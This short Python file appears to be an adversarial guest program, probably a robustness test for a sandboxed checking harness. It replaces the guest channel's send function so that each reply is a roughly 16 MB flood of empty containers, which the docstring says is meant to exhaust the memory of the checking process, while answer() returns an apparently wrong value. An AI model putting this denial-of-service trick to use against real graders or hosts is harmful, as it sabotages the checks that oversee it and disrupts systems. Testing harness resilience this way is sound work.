"""Replies with as many containers as a message holds, again and again, so that the process of the checks runs out of memory."""

import posix
import struct
import sys

real = posix.write
empty = b"d" + struct.pack("<II", 4, 0)
number = (1 << 24) // len(empty) - 20
names = sys.modules["guest.wire"].pack(("value", ["answer"]))
millions = sys.modules["guest.wire"].pack(("value", "own", "", None))[4:-5] + b"l" + struct.pack("<II", 4, number) + empty * number
replies = [names]


def send(descriptor, message):
    whole = memoryview(replies.pop() if replies else len(millions).to_bytes(4, "little") + millions)
    while whole:
        whole = whole[real(descriptor, whole):]


sys.modules["guest.channel"].send = send


def answer():
    return 41
